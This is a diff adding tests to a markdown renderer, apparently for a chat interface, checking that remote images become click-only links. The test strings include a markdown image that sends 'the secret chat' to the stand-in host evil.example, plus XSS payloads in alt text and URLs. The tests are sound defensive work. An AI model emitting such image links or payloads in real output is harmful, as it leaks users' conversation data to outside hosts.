@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { renderJson, renderMarkdown } from '../markdown.js'
+import { remoteImageHost, renderJson, renderMarkdown } from '../markdown.js'
 
 function dom(html) {
   const root = document.createElement('div')
@@ -66,5 +66,60 @@ describe('renderJson', () => {
     expect(root.querySelector('img')).toBeNull()
     const text = root.querySelector('pre code').textContent
     expect(JSON.parse(text)).toEqual({ model: 'gpt', note: '<img src=x onerror=alert(1)>' })
+  })
+})
+
+describe('remote images', () => {
+  const leak = '![chart](https://evil.example/p.png?d=the%20secret%20chat)'
+
+  it('are not loaded by default: a link naming the host takes their place', () => {
+    const root = dom(renderMarkdown(`Here: ${leak}`))
+    expect(root.querySelector('img')).toBeNull()
+    const link = root.querySelector('a.remote-image')
+    expect(link.getAttribute('href')).toBe('https://evil.example/p.png?d=the%20secret%20chat')
+    expect(link.textContent).toContain('chart')
+    expect(link.querySelector('.remote-image-host').textContent).toContain('evil.example')
+    // Opened on click only, in a new tab that learns nothing about this page.
+    expect(link.getAttribute('target')).toBe('_blank')
+    expect(link.getAttribute('rel')).toContain('noreferrer')
+  })
+
+  it('covers protocol-relative, reference-style and linked images', () => {
+    const text = '![a](//evil.example/a.png) ![b][ref] [![c](http://evil.example:8080/c.png)](https://example.com)\n\n[ref]: https://evil.example/b.png'
+    const root = dom(renderMarkdown(text))
+    expect(root.querySelector('img')).toBeNull()
+    const hosts = [...root.querySelectorAll('.remote-image-host')].map((el) => el.textContent)
+    expect(hosts).toHaveLength(3)
+    expect(hosts.join(' ')).toContain('evil.example:8080')
+  })
+
+  it('are shown inline when the server allows them', () => {
+    const root = dom(renderMarkdown(leak, { remoteImages: true }))
+    expect(root.querySelector('a.remote-image')).toBeNull()
+    expect(root.querySelector('img').getAttribute('src')).toBe('https://evil.example/p.png?d=the%20secret%20chat')
+    expect(root.querySelector('img').getAttribute('alt')).toBe('chart')
+  })
+
+  it("leave the app's own and inline images alone", () => {
+    const pixel = 'data:image/png;base64,iVBORw0KGgo='
+    const root = dom(renderMarkdown(`![logo](/logo.png) ![dot](${pixel})`))
+    expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(['/logo.png', pixel])
+    expect(root.querySelector('.remote-image')).toBeNull()
+  })
+
+  it('names the host an image URL would contact', () => {
+    const base = 'http://127.0.0.1:8000/?session=x'
+    expect(remoteImageHost('https://evil.example/p.png', base)).toBe('evil.example')
+    expect(remoteImageHost('//cdn.example:444/p.png', base)).toBe('cdn.example:444')
+    expect(remoteImageHost('http://127.0.0.1:9999/p.png', base)).toBe('127.0.0.1:9999')
+    expect(remoteImageHost('/own.png', base)).toBeNull()
+    expect(remoteImageHost('http://127.0.0.1:8000/own.png', base)).toBeNull()
+    expect(remoteImageHost('data:image/png;base64,AAAA', base)).toBeNull()
+  })
+
+  it('keep a hostile alt text and URL as text', () => {
+    const root = dom(renderMarkdown('![<img src=x onerror=alert(1)>"](https://evil.example/"><script>)'))
+    expect(root.querySelector('img')).toBeNull()
+    expect(root.querySelector('script')).toBeNull()
   })
 })
